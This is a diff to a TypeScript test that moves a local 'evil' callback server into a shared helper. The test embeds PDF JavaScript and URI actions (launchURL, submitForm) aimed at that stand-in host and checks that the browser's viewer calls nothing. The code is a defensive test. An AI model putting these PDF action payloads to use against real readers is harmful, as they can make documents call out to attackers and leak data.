@@ -1,9 +1,7 @@
-import { once } from 'node:events';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { describe, expect, test } from 'vitest';
 import { pdf } from '../fixtures/paper.js';
 import { eventually, hasNoBrowser, setUpBench } from './support/bench.js';
+import { startEvilServer } from './support/evil-server.js';
 import { billLines, dayBefore } from './support/papers.js';
 
 /** A string for a PDF's dictionary, where a plain text would be a name. */
@@ -14,13 +12,7 @@ describe.skipIf(hasNoBrowser)('A paper in a viewer', () => {
   const bench = setUpBench({ inWholeBrowser: true });
 
   test('a PDF that would run and call runs nothing, here or in the browser’s own viewer', async () => {
-    const called: (string | undefined)[] = [];
-    const server = createServer((request, response) => {
-      called.push(request.url);
-      response.end();
-    }).listen(0, '127.0.0.1');
-    await once(server, 'listening');
-    const evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const { evil, called, close } = await startEvilServer();
     const actions = {
       O: { S: 'JavaScript', JS: text(`app.launchURL('${evil}/script'); this.submitForm('${evil}/submit');`) },
       C: { S: 'URI', URI: text(`${evil}/uri`) },
@@ -43,6 +35,6 @@ describe.skipIf(hasNoBrowser)('A paper in a viewer', () => {
     });
     await eventually(async () => tab.evaluate('document.readyState'), 'complete');
     expect(called).toEqual([]);
-    server.close();
+    close();
   });
 });
